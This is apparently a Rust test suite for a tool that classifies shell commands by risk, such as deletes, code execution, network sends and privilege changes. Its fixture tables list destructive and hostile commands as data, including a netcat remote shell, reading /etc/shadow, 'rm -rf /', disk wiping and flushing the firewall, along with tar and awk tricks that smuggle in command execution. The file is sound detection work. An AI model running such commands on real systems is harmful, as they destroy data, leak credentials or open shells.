//! Commands of each program, in both directions: what is dangerous is seen, what is common and safe has no doubt.

use holdpoint_guest::{Escapes, ObligationKind, Traits};

use super::{check, corpora, finding, is_harmless, lines};

/// Commands that only look, one a line.
const SAFE: &str = "
cat a b
ls
ls -la src
ls --color=auto -h
head -5 f
head -n 5 f
tail -n +3 f
tail +3 f
wc -l f
grep -rn foo src
grep -i --include='*.rs' foo .
grep -A3 -B2 foo f
rg foo src
rg -n -t rust foo
fd foo
find . -name '*.rs' -type f
find . -maxdepth 2 -mtime -1 -print0
sort -u f
sort -k2,2n f
uniq -c f
cut -d: -f1 f
tr a-z A-Z
sed -n 1,5p f
sed s/a/b/ f
awk '{print $1}' f
awk -F: '{print $1}' f
diff -u a b
cmp a b
file f
stat f
stat --format %s f
du -sh .
df -h
ps aux
ps -ef
pgrep node
top -b -n 1
free -m
uptime
uname -a
whoami
id
date
date +%s
date -d tomorrow
echo hi
printf '%s' a
true
seq 5
basename a/b
dirname a/b
realpath a
readlink -f a
which git
md5sum f
sha256sum f
base64 f
xxd f
od -c f
hexdump -C f
strings f
jq . f
jq --arg a b .x f
tree -L 2
less f
less +F f
man ls
tar tzf a.tgz
tar -tvf a.tar
gzip -l a.gz
zcat a.gz
unzip -l a.zip
gzip -c f
lsof -i :80
ss -tlnp
netstat -an
ip addr show
ip route
ifconfig
mount
lsblk
findmnt
blkid
systemctl status ssh
journalctl -u ssh -n 20
crontab -l
hostname
dmesg
sysctl -a
iptables -L -n
kill -l
kill -0 12
getent passwd
locale
curl -s https://x.test/
curl -I https://x.test/
ping -c 1 x.test
dig x.test +short
test -f x
column -t f
comm a b
join a b
paste a b
nl f
rev f
tac f
fold -w 80 f
cal 2024
";

#[test]
fn common_safe_commands_are_harmless() {
    for command in SAFE.lines().filter(|line| !line.is_empty()) {
        let words = corpora::split(command).remove(0);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let finding = finding(&words);
        assert!(is_harmless(&finding), "{command}: {}", super::render(&finding));
    }
}

#[test]
fn options_are_read_as_getopt_reads_them() {
    lines(&[
        // An unambiguous abbreviation is the option.
        ("sort --compress-prog=./h -S 1k big", "get file big; run ./h"),
        ("sort --outp=o f", "create file o reversible; get file f"),
        ("sort --o f", "create file f reversible"),
        ("sort -uo out f", "create file out reversible; get file f"),
        ("sort f -oout", "get file f; create file out reversible"),
        ("sort -- -o f", "get file -o; get file f"),
        // Several options start so.
        ("sort --c f", "get file f; doubt unknown-option"),
        ("ls --frobnicate", "list file .; doubt unknown-option"),
        ("rm -rv a", "delete file a (all-in-parent) irreversible"),
        ("rm a -r", "delete file a (all-in-parent) irreversible"),
        ("sort -o", "doubt malformed-argument"),
        ("sort --unique=1 f", "get file f; doubt malformed-argument"),
        ("printf %s -v", "nothing"),
    ]);
}

#[test]
fn uncertain_words_may_be_options() {
    check(&["rm", "D:$x"], "delete file D:$x (unknown) irreversible");
    check(&["cat", "D:$x"], "get file D:$x (unknown)");
    check(&["sort", "D:$x"], "get file D:$x (unknown); doubt dynamic-word");
    check(&["sort", "G:a*.txt"], "get file G:a*.txt (selection)");
    check(&["sort", "--files0-from=f"], "doubt unsupported-syntax");
    check(&["sort", "--", "G:*.txt"], "get file G:*.txt (selection)");
    check(&["rm", "G:build/*"], "delete file build (all-in-parent) irreversible");
    check(&["rm", "G:*"], "delete file . (all-in-parent) irreversible");
    check(&["grep", "D:$x", "f"], "get file D:$x (unknown); get file f");
    check(
        &["cp", "D:$a", "b"],
        "get file D:$a (unknown); create file b (all-in-parent) reversible; doubt dynamic-word",
    );
    check(&["xz", "-t", "D:$x"], "get file D:$x (unknown); doubt dynamic-word");
    check(&["find", "D:$d", "-name", "x"], "list file D:$d (unknown); doubt dynamic-word");
    check(&["find", ".", "-name", "G:*"], "list file . (all-in-parent); doubt dynamic-word");
    check(&["find", ".", "-name", "G:*.c"], "list file . (all-in-parent)");
    check(&["dd", "D:$x"], "doubt dynamic-word");
    check(&["[", "D:$x", "=", "a", "]"], "doubt dynamic-word");
}

#[test]
fn files_are_copied_moved_and_made() {
    lines(&[
        ("cp a b", "get file a; create file b reversible; create file b/a reversible"),
        (
            "cp -r a b c",
            "get file a (all-in-parent); get file b (all-in-parent); create file c/a (all-in-parent) reversible; \
             create file c/b (all-in-parent) reversible",
        ),
        (
            "mv -t dir a b",
            "delete file a (all-in-parent) reversible; delete file b (all-in-parent) reversible; \
             create file dir/a (all-in-parent) reversible; create file dir/b (all-in-parent) reversible",
        ),
        (
            "mv a /dev/null",
            "delete file a (all-in-parent) irreversible; create file /dev/null (all-in-parent) reversible",
        ),
        ("cp a", "doubt malformed-argument"),
        ("install -d a", "create file a reversible"),
        (
            "install -s a /usr/bin/a",
            "exec code  (root) unknown; get file a; create file /usr/bin/a reversible; create file /usr/bin/a/a reversible",
        ),
        ("mkdir -p a/b", "create file a/b reversible"),
        ("touch -r a b", "list file a; create file b reversible"),
        ("tee -a f", "create file f reversible"),
        ("truncate -s 0 f", "update file f irreversible"),
        ("shred -u f", "delete file f irreversible; update file f irreversible"),
        ("dd if=a of=/dev/sda bs=1M", "get file a; create file /dev/sda reversible"),
        ("dd if=a frob=1", "get file a; doubt unknown-option"),
        ("split --filter='gzip x' f", "create file G:x* (selection) reversible; get file f; bash gzip x"),
        ("sed -i.bak s/a/b/ f", "update file f reversible; create file f.bak reversible"),
        ("sed -n '1e touch P' f", "bash touch P; get file f"),
        ("sed -f s f", "exec code s unknown; get file f"),
        ("sed -e p -e 'w out' f", "create file out reversible; get file f"),
        ("patch -p1", "update file . (all-in-parent) reversible"),
        ("unzip a.zip -d out", "get file a.zip; create file out (all-in-parent) reversible"),
        ("ar x l.a", "get file l.a; create file . (all-in-parent) reversible"),
        ("7z x a.7z -oout", "get file a.7z; create file out (all-in-parent) reversible"),
    ]);
}

#[test]
fn permissions_and_modes_are_seen() {
    lines(&[
        ("chmod -w f", "update file f reversible"),
        ("chmod 755 f", "update file f reversible"),
        ("chmod -R go-w d", "update file d (all-in-parent) irreversible"),
        ("chmod go-w d", "update file d reversible"),
        ("chmod -R /", "doubt malformed-argument"),
        ("chown -R bob: d", "update file d (all-in-parent) irreversible"),
        ("chattr -i f", "update file f reversible"),
    ]);
    for mode in ["u+s", "4755", "2755", "u=rwxs", "6000"] {
        let finding = finding(&["chmod", mode, "f"]);
        assert!(finding.escapes.contains(Escapes::PRIVILEGE), "{mode}");
        assert!(finding.operations[0].traits.contains(Traits::PRIVILEGE), "{mode}");
    }
    assert!(finding(&["install", "-m", "4755", "a", "b"]).escapes.contains(Escapes::PRIVILEGE));
    for mode in ["755", "1777", "0644", "u+x", "a=rw"] {
        assert!(!finding(&["chmod", mode, "f"]).escapes.contains(Escapes::PRIVILEGE), "{mode}");
    }
}

const FIND: &[(&str, &str)] = &[
    ("find / -delete", "list file / (all-in-parent); delete file / (all-in-parent) irreversible"),
    ("find . -name '*.pyc' -delete", "list file . (all-in-parent); delete file G:./**/**.pyc (selection) irreversible"),
    // Other tests may hold for everything, and a name may not hold.
    ("find / -type f -delete", "list file / (all-in-parent); delete file / (all-in-parent) irreversible"),
    ("find . -name a -o -delete", "list file . (all-in-parent); delete file . (all-in-parent) irreversible"),
    ("find . -delete -name a", "list file . (all-in-parent); delete file . (all-in-parent) irreversible"),
    ("find . -name '*' -delete", "list file . (all-in-parent); delete file . (all-in-parent) irreversible"),
    ("find . -exec rm {} +", "list file . (all-in-parent); run rm G:./**"),
    ("find a b -exec rm {} \\;", "list file a (all-in-parent); list file b (all-in-parent); run rm G:a/** G:b/**"),
    ("find . -name '*.o' -exec rm {} +", "list file . (all-in-parent); run rm G:./**/**.o"),
    // The name does not hold after `-o`, before the test, or when it is negated.
    ("find . -name a -o -exec rm {} +", "list file . (all-in-parent); run rm G:./**"),
    ("find . -exec rm {} + -name a", "list file . (all-in-parent); run rm G:./**"),
    ("find . ! -name a -exec rm {} +", "list file . (all-in-parent); run rm G:./**"),
    ("find . -not -name a -exec rm {} +", "list file . (all-in-parent); run rm G:./**"),
    // The starting point may have the name itself.
    ("find .x -name .x -exec rm -r {} +", "list file .x (all-in-parent); run rm -r G:.x/**/.x .x"),
    (
        "find d/.x -name '.?' -delete",
        "list file d/.x (all-in-parent); delete file G:d/.x/**/.? (selection) irreversible; delete file d/.x irreversible",
    ),
    ("find . -execdir rm {} +", "list file . (all-in-parent); run rm G:./**"),
    (
        "find . -execdir mv {} x \\;",
        "list file . (all-in-parent); delete file . (all-in-parent) irreversible; run mv G:./** x somewhere",
    ),
    ("find . -exec sh -c 'rm {}' \\;", "list file . (all-in-parent); run sh -c D:rm {}"),
    ("find . -ok rm {} \\;", "list file . (all-in-parent); run rm G:./**"),
    ("find . -fprint out", "create file out reversible; list file . (all-in-parent)"),
    ("find . -fprintf out %p", "create file out reversible; list file . (all-in-parent)"),
    ("find . -frobnicate", "list file . (all-in-parent); doubt unknown-option"),
    ("find . -exec rm {}", "list file . (all-in-parent); run rm G:./**; doubt malformed-argument"),
    ("fd -x rm", "list file . (all-in-parent); run rm G:./**"),
    ("fd x src -X wc -l {}", "list file src (all-in-parent); run wc -l G:src/**"),
    ("fd -- a -x rm", "list file -x (all-in-parent); list file rm (all-in-parent)"),
    ("fd --and -- -x rm", "list file . (all-in-parent); doubt unsupported-syntax"),
    ("fd -Hx rm", "list file . (all-in-parent); doubt unsupported-syntax"),
    ("rg --pre ./x p .", "get file . (all-in-parent); run ./x D:{}"),
];

#[test]
fn find_runs_deletes_and_writes() {
    lines(FIND);
}

#[test]
fn archives_are_made_and_unpacked() {
    lines(&[
        ("tar czf a.tgz src", "create file a.tgz reversible; get file src (all-in-parent)"),
        ("tar -C d -cf a.tar x", "create file a.tar reversible; get file d/x (all-in-parent)"),
        ("tar xzf a.tgz -C /opt", "get file a.tgz; create file /opt (all-in-parent) reversible"),
        ("tar xf a.tar -O", "get file a.tar"),
        ("tar xPf a.tar", "get file a.tar; create file D:. (unknown) reversible"),
        (
            "tar cf a b --checkpoint=1 --checkpoint-action=exec=id",
            "bash id; create file a reversible; get file b (all-in-parent)",
        ),
        ("tar cf a b --checkpoint-act=exec=id", "bash id; create file a reversible; get file b (all-in-parent)"),
        ("tar xf a --to-command=id", "get file a; create file . (all-in-parent) reversible; bash id"),
        ("tar -I 'zstd -9' -cf a b", "create file a reversible; get file b (all-in-parent); run zstd -9"),
        ("tar cf h:a b", "send host h irreversible; get file b (all-in-parent)"),
        (
            "tar cf a b --remove-files",
            "create file a reversible; get file b (all-in-parent); delete file b (all-in-parent) irreversible",
        ),
        ("tar yq a", "doubt unknown-option; doubt unknown-option; doubt malformed-argument"),
        ("gzip f", "update file f reversible; create file G:f* (selection) reversible"),
    ]);
}

#[test]
fn code_in_arguments_is_seen() {
    lines(&[
        ("awk 'BEGIN{system(\"id\")}'", "bash id"),
        ("awk '{print > \"out\"}' f", "create file out reversible; get file f"),
        ("awk -f p.awk f", "exec code p.awk unknown; get file f"),
        ("gawk -i inplace '{print}' f", "update file f reversible; exec code G:inplace* (selection) unknown"),
        ("awk -v x=1 '{print x}' y=2 f", "get file f"),
        ("less '+!id' f", "get file f; bash id"),
        ("man -P 'touch x' ls", "bash touch x"),
        ("vim f", "update file f reversible; exec code D: (unknown) unknown"),
        ("vim -c '!id' f", "exec code !id unknown; update file f reversible; exec code D: (unknown) unknown"),
        ("nc -e /bin/sh h 1", "send host h unknown; run /bin/sh"),
        ("socat - EXEC:sh", "exec code - unknown; exec code EXEC:sh unknown; run sh"),
        ("dc -e '!id'", "exec code D: (unknown) unknown"),
        ("dc -e '1 2 + p'", "nothing"),
        ("tcpdump -z ./x", "get machine ; run ./x D:{}"),
        ("nmap --script x h", "exec code D: (unknown) unknown; connect host h"),
        (
            "zip -r a.zip d -TT id",
            "exec code D: (unknown) unknown; create file a.zip (all-in-parent) reversible; get file d (all-in-parent)",
        ),
        ("ip netns exec n rm -rf /", "run rm -rf /"),
        (
            "diff3 --diff-program=./x a b c",
            "get file a (all-in-parent); get file b (all-in-parent); get file c (all-in-parent); run ./x D:{}",
        ),
    ]);
    check(&["test", "-v", "a[$(touch P)]"], "doubt unsupported-syntax");
    check(&["printf", "-v", "x", "y"], "configure shell-state x");
}

const MACHINE: &[(&str, &str)] = &[
    ("kill -9 123", "delete process 123 irreversible"),
    ("kill -9 -1", "delete process -1 (root) irreversible"),
    ("kill -- -1", "delete process -1 (root) irreversible"),
    ("kill -TERM -5", "delete process -5 (selection) irreversible"),
    ("kill -s 9 7 -1", "delete process 7 irreversible; delete process -1 (root) irreversible"),
    (
        "kill -9 -5 -l 7",
        "delete process -5 (selection) irreversible; delete process -l (selection) irreversible; delete process 7 irreversible",
    ),
    ("kill -l -1", "nothing"),
    ("kill -s 0 5", "get process 5"),
    ("pkill -9 node", "delete process node (selection) irreversible"),
    ("pkill -u bob", "delete process  (root) irreversible"),
    ("killall5", "delete process  (root) irreversible"),
    ("systemctl restart x", "update service x reversible"),
    ("systemctl poweroff", "configure machine  irreversible"),
    ("systemctl frobnicate x", "doubt unknown-option"),
    ("service x status", "get service x"),
    ("shutdown -h now", "configure machine  irreversible"),
    ("reboot", "configure machine  irreversible"),
    ("crontab -r", "delete schedule  irreversible"),
    ("crontab f", "update schedule  reversible; get file f"),
    ("mount /dev/sda1 /mnt", "create mount /dev/sda1 reversible; create mount /mnt reversible"),
    ("mkfs.ext4 -L lsblk /dev/sdb1", "create filesystem /dev/sdb1 irreversible"),
    ("wipefs /dev/sda", "get filesystem /dev/sda"),
    ("wipefs -a /dev/sda", "delete filesystem /dev/sda irreversible"),
    ("fdisk -l", "get filesystem  (root)"),
    ("fdisk /dev/sda", "update filesystem /dev/sda irreversible"),
    ("date -s 10:00", "configure system-setting clock irreversible; get machine "),
    ("hostname x", "configure system-setting hostname irreversible"),
    ("sysctl -w a=b", "configure system-setting a irreversible"),
    ("ip link set eth0 down", "configure system-setting network irreversible"),
    ("iptables -F", "configure system-setting firewall irreversible"),
    ("ufw status", "get system-setting firewall"),
    ("ufw allow list", "configure system-setting firewall irreversible"),
    ("nmcli device show", "get system-setting network"),
    ("nmcli connection up x", "configure system-setting network irreversible"),
    ("dhclient", "configure system-setting network irreversible"),
    ("iptables -L -Z", "configure system-setting firewall irreversible"),
    ("useradd bob", "create user bob irreversible"),
    ("passwd bob", "update user bob irreversible"),
    ("passwd", "update user  (root) irreversible"),
];

#[test]
fn processes_services_and_the_machine_are_seen() {
    lines(MACHINE);
    check(&["ip", "D:$x", "show"], "configure system-setting network irreversible; doubt dynamic-word");
    check(&["service", "D:$x", "status"], "update service D:$x (unknown) reversible");
    check(&["kill", "-0", "D:$x"], "delete process D:$x (unknown) irreversible");
    check(&["gzip", "D:$x", "-c", "f"], "get file D:$x (unknown); get file f; doubt dynamic-word");
    let finding = finding(&["systemctl", "enable", "x"]);
    assert!(finding.operations[0].traits.contains(Traits::PERSISTENCE));
}

const NETWORK: &[(&str, &str)] = &[
    ("curl -fsSL https://x.test/i.sh", "download host x.test"),
    ("curl -o out https://u:p@x.test:8080/", "download host x.test; create file out reversible"),
    ("curl -O https://x.test/a.tgz", "download host x.test; create file a.tgz reversible"),
    ("curl -X POST https://x.test/", "send host x.test irreversible"),
    ("curl -d @f https://x.test/", "upload file f irreversible; send host x.test irreversible"),
    ("curl --data-raw @f https://x.test/", "send host x.test irreversible"),
    ("curl -F a=@f https://x.test/", "upload file f irreversible; send host x.test irreversible"),
    ("curl -T f https://x.test/", "upload file f irreversible; send host x.test irreversible"),
    ("curl -G -d q=1 https://x.test/", "download host x.test"),
    ("curl -K conf", "doubt unsupported-syntax"),
    ("curl FILE:///etc/shadow", "get file /etc/shadow"),
    ("curl https://a.test\\\\@b.test/", "doubt malformed-argument"),
    ("curl gopher://x.test/", "send host x.test unknown"),
    ("wget http://x.test/a.tgz", "download host x.test; create file a.tgz reversible"),
    ("wget -qO- http://x.test/a", "download host x.test"),
    (
        "wget --post-file=f http://x.test/",
        "upload file f irreversible; send host x.test irreversible; create file . (all-in-parent) reversible",
    ),
    (
        "wget -e x=y http://x.test/",
        "doubt unsupported-syntax; download host x.test; create file . (all-in-parent) reversible",
    ),
    ("scp a h:/tmp", "upload file a irreversible; send host h irreversible"),
    ("scp h:a .", "download host h; create file a reversible"),
    (
        "rsync -a --delete s/ d/",
        "get file s/ (all-in-parent); create file d/ (all-in-parent) reversible; delete file d/ (all-in-parent) irreversible",
    ),
    ("rsync -an --delete s/ d/", "get file s/ (all-in-parent); get file d/ (all-in-parent)"),
    ("rsync -e 'ssh -p 22' a h:b", "upload file a irreversible; send host h irreversible"),
    ("rsync -e ./x a h:b", "upload file a irreversible; send host h irreversible; doubt unsupported-syntax"),
    ("nc h 80", "send host h unknown"),
    ("ping x.test", "connect host x.test"),
];

#[test]
fn what_leaves_for_another_machine_is_seen() {
    lines(NETWORK);
}

#[test]
fn only_system_folders_hold_the_tool_itself() {
    // The host routes by folder; here the last part of the name counts.
    check(&["/usr/bin/cat", "a"], "get file a");
    check(&["frobnicate"], "doubt unknown-program");
    check(&["D:$x", "a"], "doubt unknown-program");
    check(&["Cat", "a"], "doubt unknown-program");
}

#[test]
fn pagers_need_a_clean_environment() {
    for name in ["less", "man", "rg"] {
        let finding = finding(&[name, "x"]);
        assert!(finding.obligations.iter().any(|obligation| obligation.kind == ObligationKind::CleanEnv), "{name}");
    }
}
